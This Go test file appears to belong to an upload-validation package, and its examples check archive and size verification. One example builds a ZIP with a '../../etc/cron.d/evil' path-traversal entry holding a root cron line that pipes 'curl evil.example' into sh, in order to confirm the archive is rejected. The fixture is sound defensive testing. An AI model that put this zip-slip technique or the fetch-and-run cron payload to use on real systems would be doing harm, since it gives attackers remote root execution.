package verify_test

import (
	"archive/zip"
	"bytes"
	"context"
	"fmt"
	"io"

	"github.com/labelq/labelq/internal/verify"
)

// object stands in for a *minio.Object: an io.Reader for Measure and an
// io.ReaderAt for InspectArchive. An Object's ReadAt neither uses nor moves the
// position Read has reached (EOF included), so the one Object that Measure
// read to the end serves InspectArchive afterwards, until it is closed.
type object interface {
	io.Reader
	io.ReaderAt
}

// validate is the worker's flow: Precheck on Stat's metadata, Measure the
// bytes, Check them, and look inside archives (ZIP, tar, gzip).
func validate(ctx context.Context, obj object, refs verify.References, opts verify.Options) (verify.Report, error) {
	if pre := verify.Precheck(refs, opts); pre.Verdict != verify.Valid {
		return pre, nil // decided without reading a byte
	}

	opts.Checksums = verify.Needed(refs)
	m, err := verify.Measure(ctx, obj, opts)
	if err != nil {
		// I/O or ctx: retry. (errors.Is(err, verify.ErrTooLarge) would be a
		// rejection, with err.Error() as the message.)
		return verify.Report{}, err
	}
	rep := verify.Check(m, refs, opts)
	if rep.Verdict == verify.Valid && m.IsArchive() {
		z, err := verify.InspectArchive(ctx, obj, m.Size, opts)
		if err != nil {
			return verify.Report{}, err
		}
		rep = rep.Merge(z)
	}
	// Store m.SHA256Hex(), m.Size, rep.ContentType, rep.Verdict and
	// rep.Message() on the version.
	return rep, nil
}

func Example() {
	var archive bytes.Buffer
	zw := zip.NewWriter(&archive)
	w, _ := zw.Create("../../etc/cron.d/evil")
	_, _ = w.Write([]byte("* * * * * root curl evil.example | sh\n"))
	_ = zw.Close()
	size := int64(archive.Len())

	// What StatObject (with checksum mode) and the registration said.
	refs := verify.References{
		FileType:     verify.FileTypeDataset,
		DeclaredSize: &size,
		DeclaredMIME: "application/zip",
		ObjectSize:   &size,
		ETag:         `"9b2cf535f27731c974343645a3985328-2"`, // multipart: not compared
	}
	rep, err := validate(context.Background(), bytes.NewReader(archive.Bytes()), refs, verify.Options{})
	if err != nil {
		fmt.Println("retry:", err)
		return
	}
	fmt.Println(rep.Verdict)
	fmt.Println(rep.Message())
	// Output:
	// rejected
	// archive has entries that would be written outside the folder it is extracted to: "../../etc/cron.d/evil" (".." component); re-create the archive with relative paths
}

func ExampleCheck() {
	data := []byte("id,label\n1,cat\n") // 15 bytes reached storage
	declared := int64(4096)             // the client meant to send 4 KiB

	m, _ := verify.Measure(context.Background(), bytes.NewReader(data), verify.Options{})
	rep := verify.Check(m, verify.References{
		FileType:     verify.FileTypeDataset,
		DeclaredSize: &declared,
		DeclaredMIME: "text/csv",
	}, verify.Options{})
	fmt.Println(rep.Verdict, rep.ContentType)
	fmt.Println(rep.Message())
	// Output:
	// corrupt text/csv
	// object is 15 bytes but 4,096 were declared; the upload may have been cut off, upload the file again
}
